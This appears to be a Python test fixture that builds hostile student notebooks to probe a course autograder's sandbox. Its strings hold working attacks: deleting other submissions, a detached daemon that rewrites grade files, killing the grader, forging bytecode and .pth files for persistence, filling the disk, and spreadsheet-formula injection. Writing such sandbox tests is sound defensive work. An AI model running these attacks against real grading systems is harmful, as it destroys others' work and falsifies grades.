"""PS1 submissions written by a hostile student: one per way of breaking the grader, each named
after the failure it covers. Written by the tests at run time into the grading folder (see
test_sandbox.py), never committed. Each is the solution with some cells replaced.

Every attack is bounded: the daemon gives up after two minutes, files are written with
harmless content (a ``.pth`` line naming a folder that does not exist, for one), signals go
only to the worker's own parent, never to a process group or to every process.
"""

from __future__ import annotations

import nbformat

from make_submissions import FACTORY, ROOT, ZERO_KERNEL, _clean, _setup_plus, _with

#: In the escaping daemon's command line: the tests look for survivors by it.
DAEMON_MARK = "course-grading-escape-fixture"
#: Planted by the persistence attack; a later "accomplice" notebook looks for it.
PERSIST_MARK = "COURSE_GRADING_PERSISTED_BY_A_SUBMISSION"
#: Where a submission leaves files for a later one outside its private temporary folder.
SYSTEM_TMP_FILE = "/tmp/course-grading-fixture-answers.py"

def _cell(path, grade_id: str) -> str:
    nb = nbformat.read(path, as_version=4)
    return next(c.source for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


_SOLUTION_Q2 = _cell(ROOT / "solutions" / "ps1_nbody.ipynb", "ps1_q2_answer")
_SOLUTION_Q3 = _cell(ROOT / "solutions" / "ps1_nbody.ipynb", "ps1_q3_answer")
#: The answers as released to students (each raises NotImplementedError), the first kernel writing ones.
_UNTOUCHED = {"ps1_q1_answer": ZERO_KERNEL,
              "ps1_q2_answer": _cell(ROOT / "problem_sets" / "ps1_nbody.ipynb", "ps1_q2_answer"),
              "ps1_q3_answer": _cell(ROOT / "problem_sets" / "ps1_nbody.ipynb", "ps1_q3_answer")}

# The grading folder, as a submission without a sandbox finds it: the grader's working folder.
_GRADER_FOLDER = '''
def _grader_folder():
    try:
        return os.readlink(f"/proc/{os.getppid()}/cwd")
    except OSError:
        return None
'''

DESTROY = "import glob, os\n" + _GRADER_FOLDER + '''
folder = _grader_folder()
victims = sorted(glob.glob(os.path.join(folder, "**", "*.ipynb"), recursive=True)) if folder else []
for k, victim in enumerate(victims):
    try:
        if k % 2:
            os.unlink(victim)
            os.mkfifo(victim)  # the grader would block opening it
        else:
            with open(victim, "w") as f:
                f.write("{}")  # graded later as "not answered"
    except OSError:
        pass
'''

DAEMON = '''import os
import sys

_script = """# ''' + DAEMON_MARK + '''
import fcntl, glob, os, time
end = time.time() + 120
held = []
while time.time() < end:
    parent = os.getppid()
    try:
        folder = os.readlink(f"/proc/{parent}/cwd")
    except OSError:
        folder = None
    if folder and folder != "/":
        for path in glob.glob(os.path.join(folder, "**", "*.csv"), recursive=True) + glob.glob(
                os.path.join(folder, "**", "*.md"), recursive=True):
            try:
                with open(path, "w") as f:
                    f.write("student,question,points,max_points,status,reason\\\\n")
            except OSError:
                pass
        for lock in glob.glob(os.path.join(folder, "**", ".*.lock"), recursive=True):
            try:
                f = open(lock, "w")
                fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)
                held.append(f)
            except OSError:
                pass
    time.sleep(0.2)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _script])
    os._exit(0)
os.wait()
'''

KILL_GRADER = '''import os
import signal

for _sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), _sig)
    except OSError:
        pass
'''

PERSIST = '''import importlib.util
import os
import sys

_package = os.path.dirname(course_lib.__file__)


def _attempt(action):
    try:
        action()
    except OSError:
        pass


def _append(path, text):
    with open(path, "a") as f:
        f.write(text)


def _forge_core_bytecode():
    # A valid .pyc of grading/core.py with one more line: Python would load it instead of the source.
    source_path = os.path.join(_package, "grading", "core.py")
    with open(source_path) as f:
        source = f.read() + "\\n''' + PERSIST_MARK + ''' = True\\n"
    stat = os.stat(source_path)
    code = compile(source, source_path, "exec")
    data = importlib._bootstrap_external._code_to_timestamp_pyc(code, stat.st_mtime, stat.st_size)
    folder = os.path.join(_package, "grading", "__pycache__")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, f"core.{sys.implementation.cache_tag}.pyc"), "wb") as f:
        f.write(data)


_attempt(lambda: _append(os.path.join(_package, "nbody", "questions.py"), "\\n''' + PERSIST_MARK + ''' = True\\n"))
_attempt(_forge_core_bytecode)
for _site in [p for p in sys.path if p.endswith("site-packages")]:
    _attempt(lambda: _append(os.path.join(_site, "zz_course_grading_fixture.pth"),
                             "/nonexistent/course-grading-fixture\\n"))
_attempt(lambda: _append(os.path.join(os.path.dirname(_package), "solutions", "ps1_nbody.ipynb"), "\\n"))
'''

# Scores only if the persistence attack reached a later student's process.
ACCOMPLICE_Q3 = '''import course_lib.grading.core
import course_lib.nbody.questions

if getattr(course_lib.grading.core, "''' + PERSIST_MARK + '''", False) or getattr(
        course_lib.nbody.questions, "''' + PERSIST_MARK + '''", False):
''' + "".join("    " + line + "\n" for line in _SOLUTION_Q3.splitlines()) + '''else:
    def choose_split(*args):
        raise NotImplementedError()
'''

SUBSTITUTE = '''import sys

if any("grading" in arg for arg in sys.argv):  # only when the grader runs the notebook
    import course_lib.nbody.questions as _questions
    from course_lib.nbody.reference import accelerations_reference

    def _reference_outputs(answer, data):
        n = len(data["mass"])
        out = np.full((n + _questions.GUARD_ROWS, 3), _questions.GUARD_VALUE, np.float32)
        out[:n] = accelerations_reference(data["pos"], data["mass"], _questions.SOFTENING)
        return out

    for _test in _questions.Q1.tests:
        object.__setattr__(_test, "produce", _reference_outputs)
'''

EXEC_OTHER = '''import json
import os

try:
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as _f:
        _arguments = _f.read().split(b"\\0")
except OSError:
    _arguments = []
for _argument in _arguments:
    if _argument.endswith(b".ipynb") and b"execs_notebook" not in _argument:
        try:
            with open(_argument) as _f:
                _cells = json.load(_f)["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for _cell in _cells:
            _source = "".join(_cell["source"])
            if _cell["cell_type"] == "code" and "check(" not in _source and "summary(" not in _source:
                exec(_source)
        break
'''

LEAVE_ANSWERS = '''import os
import tempfile

_answers = ''' + repr(_SOLUTION_Q3) + '''
for _folder in (tempfile.gettempdir(), "/tmp"):
    try:
        with open(os.path.join(_folder, "course-grading-fixture-answers.py"), "w") as _f:
            _f.write(_answers)
    except OSError:
        pass
try:  # and fill the disk: 2 GiB in the temporary folder
    with tempfile.NamedTemporaryFile(delete=False) as _f:
        _chunk = b"x" * (1 << 24)
        for _ in range(128):
            _f.write(_chunk)
except OSError:
    pass
'''

# Reads the private temporary folder only: a file at a fixed path in /tmp is kept from later students
# by bubblewrap alone (checked in the test), not without namespaces (README, "For instructors").
REUSE_ANSWERS = '''import os
import tempfile

try:
    with open(os.path.join(tempfile.gettempdir(), "course-grading-fixture-answers.py")) as _f:
        exec(_f.read())
except OSError:
    pass
'''

KERNEL_CALLS_REFERENCE = '''TILE = course_lib.pick(sim=16, gpu=256)
from course_lib.nbody.reference import accelerations_reference


@cuda.jit
def tiled_kernel(bodies, softening_sq, acc):
    """Thread 0 asks the course's float64 reference: it runs in the simulator, not on a GPU."""
    if cuda.grid(1) == 0:
        n = bodies.shape[0]
        pos = np.array([[bodies[i, 0], bodies[i, 1], bodies[i, 2]] for i in range(n)])
        mass = np.array([bodies[i, 3] for i in range(n)])
        result = accelerations_reference(pos, mass, math.sqrt(softening_sq))
        for i in range(n):
            for c in range(3):
                acc[i, c] = result[i, c]
''' + FACTORY

FEEDBACK_OVERWRITE = "import glob, os\n" + _GRADER_FOLDER + '''
_folder = _grader_folder()
for _path in glob.glob(os.path.join(_folder, "**", "*.md"), recursive=True) if _folder else []:
    try:
        with open(_path, "w") as _f:
            _f.write("# Total: 0 points (forged)\\n")
    except OSError:
        pass
'''

BREAKS_CSV_Q1 = '''_Weird = type('=HYPERLINK("http://example.invalid","click")', (Exception,), {})


class _Kernel:
    """Any attribute lookup raises an exception whose name is a spreadsheet formula."""

    def __getattr__(self, name):
        raise _Weird("\\udcff lone surrogate, \\x1b[2J escape, \\r\\n=1+1 formula")


make_split_kernel = _Kernel()
'''

MAGICS = {
    "ps1_q2_answer": "%%time\n" + "%time _warm = 2 * 3\n" + _SOLUTION_Q2,
    "ps1_q3_answer": "%%capture captured\n" + _SOLUTION_Q3 + "print('tile chosen')\n",
}


def notebooks() -> dict:
    """Student name -> notebook, in the order they are graded."""
    return {
        "destroys_other_submissions": _with({"ps1_setup": _setup_plus(DESTROY)}),
        "daemon_escapes_and_rewrites_grades": _with({"ps1_setup": _setup_plus(DAEMON)}),
        "kills_the_grader": _with({"ps1_setup": _setup_plus(KILL_GRADER)}),
        "persists_in_course_files": _with({"ps1_setup": _setup_plus(PERSIST), **_UNTOUCHED}),
        "accomplice_of_persistence": _with({**_UNTOUCHED, "ps1_q3_answer": ACCOMPLICE_Q3}),
        "substitutes_produce_with_reference": _with({"ps1_setup": _setup_plus(SUBSTITUTE),
                                                     "ps1_q1_answer": ZERO_KERNEL}),
        "execs_notebook_from_grader_cmdline": _with({**_UNTOUCHED, "ps1_q3_answer": EXEC_OTHER}),
        "leaves_answers_and_fills_tmp": _with({"ps1_setup": _setup_plus(LEAVE_ANSWERS)}),
        "reuses_answers_left_in_tmp": _with({**_UNTOUCHED, "ps1_q3_answer": REUSE_ANSWERS}),
        "kernel_calls_float64_reference": _with({"ps1_q1_answer": KERNEL_CALLS_REFERENCE}),
        "overwrites_earlier_feedback": _with({"ps1_setup": _setup_plus(FEEDBACK_OVERWRITE)}),
        '=HYPERLINK("x")': _with({"ps1_q1_answer": BREAKS_CSV_Q1}),
        "uses_cell_magics": _with(MAGICS),
    }


def write(folder) -> list:
    """Write the hostile notebooks, a non-UTF-8 file name and a symbolic link into ``folder``;
    returns the paths in grading order (the link and the odd name last)."""
    import os
    from pathlib import Path

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, nb in notebooks().items():
        path = folder / f"{name}.ipynb"
        nbformat.write(_clean(nb), path)
        paths.append(path)
    solution = nbformat.writes(_clean(_with({})))
    odd = os.fsdecode(os.fsencode(str(folder)) + b"/caf\xe9_\xff.ipynb")  # not UTF-8
    with open(odd, "w") as f:
        f.write(solution)
    link = folder / "symlinked.ipynb"
    link.symlink_to(folder / "destroys_other_submissions.ipynb")
    return paths + [Path(odd), link]
